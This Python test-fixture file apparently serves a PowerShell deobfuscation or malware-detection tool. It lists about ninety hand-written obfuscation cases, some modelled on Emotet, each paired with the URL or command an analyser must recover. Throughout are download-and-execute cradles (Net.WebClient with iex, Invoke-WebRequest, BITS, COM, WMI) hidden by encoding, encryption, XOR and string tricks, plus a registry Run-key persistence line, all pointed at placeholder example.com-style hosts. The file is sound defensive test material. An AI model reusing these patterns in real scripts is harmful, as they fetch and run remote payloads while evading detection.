"""Obfuscation techniques, one case each: a benign script and what it must be seen to do or say.

Every script is written by hand after the technique's public description; addresses are reserved names.
"""

from __future__ import annotations

import base64
import gzip
import zlib
from dataclasses import dataclass
from typing import Final

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

URL: Final = "http://one.example/a.exe"
GET: Final = f"(New-Object Net.WebClient).DownloadString('{URL}')"


def b64(text: str, codec: str = "utf-16-le") -> str:
    """Base64 of a text."""
    return base64.b64encode(text.encode(codec)).decode()


def deflated(text: str) -> str:
    """Base64 of raw deflate."""
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(machine.compress(text.encode()) + machine.flush()).decode()


def gzipped(text: str) -> str:
    """Base64 of gzip."""
    return base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()


def aes(text: bytes, key: bytes, start: bytes) -> bytes:
    """AES-CBC with PKCS #7."""
    count = 16 - len(text) % 16
    machine = Cipher(algorithms.AES(key), modes.CBC(start)).encryptor()
    return machine.update(text + bytes([count]) * count) + machine.finalize()


def secure(text: str, key: bytes) -> str:
    """As `ConvertFrom-SecureString -Key` writes it."""
    start = bytes(range(16))
    body = f"2|{base64.b64encode(start).decode()}|{aes(text.encode('utf-16-le'), key, start).hex()}"
    return "76492d1116743f0423413b16050a5345" + b64(body)


def numbers(text: str, separator: str, key: int = 0) -> str:
    """Code points, each combined with a key by exclusive or."""
    return separator.join(str(ord(letter) ^ key) for letter in text)


@dataclass(frozen=True)
class Case:
    """A technique.

    Attributes:
        wanted: Texts that must be arguments of effects.
    """

    name: str
    script: str
    wanted: tuple[str, ...] = (URL,)


_LIST: Final = "http://one.example/a*http://two.example/b*http://three.example/c"
_THREE: Final = tuple(_LIST.split("*"))
_LOOP: Final = "foreach($u in $l){try{$w.DownloadFile($u,$f);break}catch{}}"
_KEY: Final = bytes(range(1, 17))
_IV: Final = bytes(range(16, 32))

CASES: Final = (
    Case("plain", f"(New-Object Net.WebClient).DownloadFile('{URL}','c:\\x.exe')"),
    Case("split by star", f"$w=New-Object Net.WebClient;$l='{_LIST}'.Split('*');{_LOOP}", _THREE),
    Case("split by at, loop with break", f"$w=New-Object Net.WebClient;$l='{_LIST.replace('*', '@')}'.Split('@');{_LOOP}", _THREE),
    Case("concatenation", "iex ('(New-Object Net.WebClient).Down'+'loadString(''http://one.ex'+'ample/a.exe'')')"),
    Case("nested parentheses", f"(New-Object Net.WebClient).DownloadString((('http://one.')+(('example')+('/a.exe'))))"),
    Case("format operator", "iex ('{2}{0}{1}' -f 'oadString(''http://one.example','/a.exe'')','(New-Object Net.WebClient).Downl')"),
    Case("format with alignment and doubled braces", "(New-Object Net.WebClient).DownloadString(('{0}{1,0}{{}}' -f 'http://one.example','/a.exe').Replace('{}',''))"),
    Case("replace chain", "(New-Object Net.WebClient).DownloadString('hQQp://one!exaWple/a!exe'.Replace('Q','t').Replace('!','.').Replace('W','m'))"),
    Case("-replace by expression", "(New-Object Net.WebClient).DownloadString(('h##t##tp://one.exa##mple/a.exe' -replace '#+',''))"),
    Case("-cReplace with char code", "(New-Object Net.WebClient).DownloadString(('http:~~one.example~a.exe' -cREpLACe '~',[char]47))"),
    Case("-replace with groups", "(New-Object Net.WebClient).DownloadString(('elpmaxe//:ptth' -replace '(.*)//:(.*)','http://one.example') + '/a.exe')"),
    Case("char casts joined by plus", "(New-Object Net.WebClient).DownloadString([char]104+[char]116+[char]116+[char]112+'://one.example/a.exe')"),
    Case("-join of char array", f"iex (-join[char[]]({numbers(GET, ',')}))"),
    Case("split numbers to chars", f"iex (('{numbers(GET, '-')}'.Split('-')|%{{[char][int]$_}}) -join '')"),
    Case("split by several marks", f"iex (('{numbers(GET, 'x').replace('x', 'q', 3)}' -split '[xq]'|ForEach-Object{{([char]([int]$_))}}) -join '')"),
    Case("hexadecimal pairs", f"iex (-join(('{GET.encode().hex()}' -split '(..)'|?{{$_}})|%{{[char][Convert]::ToInt32($_,16)}}))"),
    Case("binary numbers", f"iex (-join('{' '.join(f'{ord(c):b}' for c in GET)}'.Split(' ')|%{{[char]([convert]::toint16($_,2))}}))"),
    Case("octal numbers", f"iex (-join('{' '.join(f'{ord(c):o}' for c in GET)}'.Split(' ')|%{{[char]([convert]::toint32($_,8))}}))"),
    Case("reverse by negative range", f"$a='{GET[::-1].replace(chr(39), chr(39) * 2)}';iex (-join $a[-1..-($a.Length)])"),
    Case("array reverse", f"$a='{GET[::-1].replace(chr(39), chr(39) * 2)}'.ToCharArray();[array]::Reverse($a);iex (-join $a)"),
    Case("regex from the right", f"iex (-join[regex]::Matches('{GET[::-1].replace(chr(39), chr(39) * 2)}','.','RightToLeft'))"),
    Case("regex with a script block", "(New-Object Net.WebClient).DownloadString([regex]::Replace('gsso://nmd.dw`lokd/`.dwd','[a-z`]',{param($m) [char]([int][char]$m.Value+1)}))"),
    Case("backticks", f"(n`Ew-o`BJecT N`eT.w`ebCLi`Ent).\"d`OwNl`oADs`TrIng\"('{URL}')"),
    Case("quoted members", f"(&'New-Object' 'Net.WebClient').'DownloadString'.Invoke('{URL}')"),
    Case("call operator with format", f"(&('{{1}}{{0}}'-f'ject','New-Ob') ('{{0}}{{1}}'-f'Net.Web','Client')).('Download'+'String').Invoke('{URL}')"),
    Case("Get-Command by wildcard", f"(&(gcm *w-O*ct) Net.WebClient).DownloadString('{URL}')"),
    Case("alias of one's own", f'sal zz iex; zz "{GET}"'),
    Case("Base64 UTF-8", f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(GET, 'utf-8')}')))"),
    Case("Base64 UTF-16", f"iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('{b64(GET)}')))"),
    Case("Base64 reversed", f"$b='{b64(GET, 'ascii')[::-1]}';$c=$b.ToCharArray();[Array]::Reverse($c);iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String(-join $c)))"),
    Case("encoding by name", f"iex ([Text.Encoding]::GetEncoding('utf-8').GetString([Convert]::FromBase64String('{b64(GET, 'utf-8')}')))"),
    Case("here-string", f"iex @'\n{GET}\n'@"),
    Case("expandable here-string", f"$h='one.example'\niex @\"\n(New-Object Net.WebClient).DownloadString('http://$h/a.exe')\n\"@"),
    Case("iex by $pshome", f"&($pshome[4]+$pshome[30]+'x') \"{GET}\""),
    Case("iex by $env:ComSpec", f".($env:ComSpec[4,24,25]-join'') \"{GET}\""),
    Case("iex by *mdr*", f"&((gv '*mdr*').Name[3,11,2]-join'') \"{GET}\""),
    Case("iex by $ShellId", f"\"{GET}\" | &($ShellId[1]+$ShellId[13]+'x')"),
    Case("iex by $env:public", f"\"{GET}\" | .($env:public[13]+$env:public[5]+'x')"),
    Case("iex by $VerbosePreference", f"\"{GET}\" | .($VerbosePreference.ToString()[1,3]+'x'-join'')"),
    Case("iex by method overloads", f"&(''.Chars.ToString()[15,18,19]-join'').Replace('nde','iex').Replace('i e','iex') \"{GET}\" ; iex \"{GET}\""),
    Case("set-item variable: and types as values", f"set-item variable:q9 ([type]('{{1}}{{0}}'-f 'nvert','Co')); iex ([Text.Encoding]::UTF8.GetString((gi variable:q9).Value::FromBase64String('{b64(GET, 'utf-8')}')))"),
    Case("type in a variable", f"$c=[Convert];$e=[Text.Encoding];iex $e::UTF8.GetString($c::FromBase64String('{b64(GET, 'utf-8')}'))"),
    Case("dynamic static member", f"$m='From'+'Base64String';iex ([Text.Encoding]::UTF8.GetString([Convert]::$m('{b64(GET, 'utf-8')}')))"),
    Case("function that decodes", f"function d($t){{$r='';foreach($n in $t.Split(',')){{$r+=[char]([int]$n -bxor 7)}};return $r}} iex (d '{numbers(GET, ',', 7)}')"),
    Case("function with default and named arguments", "function f { param($a,$b='.example/a.exe') \"http://$a$b\" } (New-Object Net.WebClient).DownloadString((f -a one))"),
    Case("filter over a pipeline", "filter u { $_ + '.example/a.exe' } (New-Object Net.WebClient).DownloadString(('http://one' | u))"),
    Case("hashtable of parts", "$h=@{b='.example';a='http://one';'c'='/a.exe'};(New-Object Net.WebClient).DownloadString($h.a+$h['b']+$h.c)"),
    Case("[string]::Join and Concat", "(New-Object Net.WebClient).DownloadString([string]::Concat([string]::Join('/',@('http:','','one.example')),'/a.exe'))"),
    Case("switch in a loop", "$s=1;$o='';while($s -ne 0){switch($s){1{$o+='http://';$s=3}3{$o+='one.example';$s=2}2{$o+='/a.exe';$s=0}}};(New-Object Net.WebClient).DownloadString($o)"),
    Case("GZip in one line", f"iex (New-Object IO.StreamReader((New-Object IO.Compression.GZipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{gzipped(GET)}'))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"),
    Case("Deflate in one line", f"iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{deflated(GET)}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"),
    Case("GZip step by step", f"$d=[Convert]::FromBase64String('{gzipped(GET)}');$m=New-Object System.IO.MemoryStream;$m.Write($d,0,$d.Length);$m.Seek(0,0)|Out-Null;$g=New-Object System.IO.Compression.GZipStream($m,[IO.Compression.CompressionMode]::Decompress);$r=New-Object System.IO.StreamReader($g);$t=$r.ReadToEnd();iex $t"),
    Case("GZip copied to a stream", f"$i=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{gzipped(GET)}'));$o=New-Object IO.MemoryStream;$z=New-Object IO.Compression.GZipStream $i,([IO.Compression.CompressionMode]::Decompress);$z.CopyTo($o);iex ([Text.Encoding]::UTF8.GetString($o.ToArray()))"),
    Case("GZip read in blocks", f"$z=New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('{gzipped(GET)}'),[IO.Compression.CompressionMode]::Decompress);$b=New-Object byte[] 1024;$o='';while(($n=$z.Read($b,0,1024)) -gt 0){{$o+=[Text.Encoding]::ASCII.GetString($b,0,$n)}};iex $o"),
    Case("secure string with key", f"iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString -Key (1..16) '{secure(GET, _KEY)}'))))"),
    Case("secure string through the pipeline", f"$s='{secure(GET, _KEY)}'|ConvertTo-SecureString -k (1..16);iex (New-Object System.Management.Automation.PSCredential 'a',$s).GetNetworkCredential().Password"),
    Case("AES decryptor", f"$a=[System.Security.Cryptography.Aes]::Create();$a.Key=[byte[]](1..16);$a.IV=[byte[]](16..31);$c=[Convert]::FromBase64String('{base64.b64encode(aes(GET.encode(), _KEY, _IV)).decode()}');$d=$a.CreateDecryptor();iex ([Text.Encoding]::UTF8.GetString($d.TransformFinalBlock($c,0,$c.Length)))"),
    Case("AES with IV in front", f"$a=New-Object 'System.Security.Cryptography.AesManaged';$a.Mode=[System.Security.Cryptography.CipherMode]::CBC;$b=[Convert]::FromBase64String('{base64.b64encode(_IV + aes(GET.encode(), _KEY, _IV)).decode()}');$a.IV=$b[0..15];$a.Key=[byte[]](1..16);$u=$a.CreateDecryptor().TransformFinalBlock($b,16,$b.Length-16);iex ([Text.Encoding]::UTF8.GetString($u))"),
    Case("xor in a pipeline", f"iex (-join({numbers(GET, ',', 42)}|%{{[char]($_ -bxor 42)}}))"),
    Case("xor in a for loop", f"$b=@({numbers(GET, ',', 0x35)});$o='';for($i=0;$i -lt $b.Count;$i++){{$o+=[char]($b[$i] -bxor 0x35)}};iex $o"),
    Case("xor of bytes with a repeated key", f"$k=[byte[]](11,22,33);$b=[byte[]]({','.join(str(c ^ (11, 22, 33)[i % 3]) for i, c in enumerate(GET.encode()))});for($i=0;$i -lt $b.Length;$i++){{$b[$i]=$b[$i] -bxor $k[$i % $k.Length]}};iex ([Text.Encoding]::ASCII.GetString($b))"),
    Case("step loop over a text", f"$t='{''.join(c + '#' for c in URL)}';$o='';for($i=0;$i -lt $t.Length;$i+=2){{$o+=$t.Substring($i,1)}};(New-Object Net.WebClient).DownloadString($o)"),
    Case("do until", f"$t='{''.join('zq' + c for c in URL)}';$o='';$i=2;do{{$o+=$t[$i];$i+=3}}until($i -ge $t.Length);(New-Object Net.WebClient).DownloadString($o)"),
    Case("Emotet: concatenation, backticks, char 64", f"$Kq=n`ew-ob`jec`T NeT.WEBcliEnt;$l=('http:'+'//one.example/a'+[char]64+'http://t'+'wo.example/b').\"s`PLIT\"([char]64);{_LOOP.replace('$w', '$Kq')}", ("http://one.example/a", "http://two.example/b")),
    Case("Emotet: decoy array", "$x=([array]('sd','sw'),'junk','http://one.example/a.exe')[2];(New-Object Net.WebClient).DownloadString($x)"),
    Case("Emotet: array of one slash", "$s=([array]('/'),'zz')[0][0];(New-Object Net.WebClient).DownloadString('http:&&one.example&a.exe'.Replace('&',$s))"),
    Case("Emotet: replace pairs then split", "$w=&('new-ob'+'ject') net.webclient;$l=('http:]b2[s//one.example/a@http:]b2[s//two.example/b').\"re`pLAce\"(']b2[s','').\"SP`lit\"('@');foreach($u in $l){try{$w.\"DO`WN`lOadFILE\"($u,$env:userprofile+'\\x.exe');if((g`et-it`em $f).length -ge 30000){[Diagnostics.Process]::Start('x');break}}catch{}}", ("http://one.example/a", "http://two.example/b")),
    Case("security protocol noise before", f"[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;{GET}"),
    Case("Invoke-WebRequest by alias", "iwr -Uri ('http://one'+'.example/a.exe') -OutFile $env:temp\\a.exe -UseBasicParsing"),
    Case("Start-BitsTransfer", "Start-BitsTransfer -Source 'http://one.example/a.exe' -Destination $env:temp"),
    Case("Msxml2 through COM", "$x=New-Object -ComObject MsXml2.XmlHttp;$x.open('GET','http://one.example/a.exe',$false);$x.send();iex $x.responseText"),
    Case("WScript.Shell through COM", "(New-Object -com wscript.shell).run('cmd /c http://one.example/a.exe')", ("cmd /c http://one.example/a.exe",)),
    Case("WMI class starts a process", "([wmiclass]'Win32_Process').Create('calc.exe http://one.example')", ("calc.exe http://one.example",)),
    Case("Invoke-WmiMethod", "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe http://one.example'", ("calc.exe http://one.example",)),
    Case("script block invoked", f"$s={{param($u)(New-Object Net.WebClient).DownloadString($u)}};&$s '{URL}'"),
    Case("ScriptBlock::Create", f'([scriptblock]::Create("{GET}")).Invoke()'),
    Case("InvokeScript of the session", f'$ExecutionContext.InvokeCommand.InvokeScript("{GET}")'),
    Case("Invoke-Command", f"icm -ScriptBlock {{ {GET} }}"),
    Case("string builder", "$b=New-Object Text.StringBuilder;[void]$b.Append('http://one');[void]$b.Append('.example/a.exe');(New-Object Net.WebClient).DownloadString($b.ToString())"),
    Case("array list", "$l=New-Object Collections.ArrayList;foreach($p in '/a.exe','.example','http://one'){[void]$l.Add($p)};$l.Reverse();(New-Object Net.WebClient).DownloadString($l -join '')"),
    Case("sorted parts", "(New-Object Net.WebClient).DownloadString((('3/a.exe','1http://one','2.example'|sort|%{$_.Substring(1)}) -join ''))"),
    Case("Where-Object drops decoys", "(New-Object Net.WebClient).DownloadString((('http://','XX','one.example','XX','/a.exe'|?{$_ -ne 'XX'}) -join ''))"),
    Case("typographic quotes and dashes", "iex ‘(New–Object Net.WebClient).DownloadString(’’http://one.example/a.exe’’)’"),
    Case("multiple assignment", "$a,$b,$c='http://','one.example','/a.exe';(New-Object Net.WebClient).DownloadString(\"$a$b$c\")"),
    Case("environment variable as a store", "$env:zz='http://one.example/a.exe';(New-Object Net.WebClient).DownloadString($env:zz)"),
    Case("variable with braces", "${a b`c}='http://one.example/a.exe';(New-Object Net.WebClient).DownloadString(${a b`c})"),
    Case("splatting", "$p=@{Uri='http://one.example/a.exe'};irm @p"),
    Case("URL decoding", "(New-Object Net.WebClient).DownloadString([uri]::UnescapeDataString('http%3A%2F%2Fone.example%2Fa.exe'))"),
    Case("regex escapes", "(New-Object Net.WebClient).DownloadString([regex]::Unescape('\\x68ttp://one\\u002eexample/a.exe'))"),
    Case("Select-Object of parts", "(New-Object Net.WebClient).DownloadString((('junk','http://one.example/a.exe','junk'|select -Skip 1 -First 1)))"),
    Case("insert, remove, pad", "(New-Object Net.WebClient).DownloadString('httQQp://.example/a.exe'.Remove(3,2).Insert(3,'').Insert(7,'one').Replace('htt','htt'))"),
    Case("method of each", "(New-Object Net.WebClient).DownloadString((('HTTP://ONE','.EXAMPLE/A.EXE'|% toLower) -join ''))"),
    Case("bytes written to a file and started", "[IO.File]::WriteAllBytes($env:temp+'\\a.exe',[byte[]](77,90));Start-Process ($env:temp+'\\a.exe') -ArgumentList '/q'", ("C:\\Users\\‹USERNAME›\\AppData\\Local\\Temp\\a.exe /q",)),
    Case("registry run key", "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'x' -Value 'rundll32 a.dll,Control_RunDLL'", ("rundll32 a.dll,Control_RunDLL",)),
    Case("unknown condition: both ways", "if(Test-Path c:\\x){(New-Object Net.WebClient).DownloadString('http://one.example/a.exe')}else{(New-Object Net.WebClient).DownloadString('http://two.example/b')}", (URL, "http://two.example/b")),
)  # fmt: skip
